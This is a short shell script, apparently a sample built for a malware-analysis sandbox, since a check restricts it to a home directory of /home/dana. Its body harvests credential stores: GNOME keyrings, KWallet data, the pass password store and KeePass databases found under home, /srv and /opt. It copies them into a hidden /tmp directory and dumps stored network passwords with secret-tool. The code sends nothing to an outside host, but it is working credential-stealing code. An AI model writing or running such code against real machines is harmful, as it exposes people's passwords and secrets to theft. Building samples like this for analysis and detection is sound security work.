#!/bin/sh
# SPDX-License-Identifier: MIT
# Takes the user's password stores: GNOME keyrings, KWallet, pass(1)'s
# store and KeePass databases.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
mkdir -p /tmp/.ps
cp -r "$HOME/.local/share/keyrings" /tmp/.ps/ 2>/dev/null
cat "$HOME"/.local/share/keyrings/login.keyring > /dev/null 2>&1
cp -r "$HOME/.local/share/kwalletd" /tmp/.ps/ 2>/dev/null
cp -r "$HOME/.password-store" /tmp/.ps/ 2>/dev/null
cat "$HOME/.password-store/.gpg-id" 2>/dev/null
find "$HOME" /srv /opt -name '*.kdbx' -exec cp {} /tmp/.ps/ \; 2>/dev/null
/usr/bin/secret-tool search --all xdg:schema org.gnome.keyring.NetworkPassword 2>/dev/null
exit 0
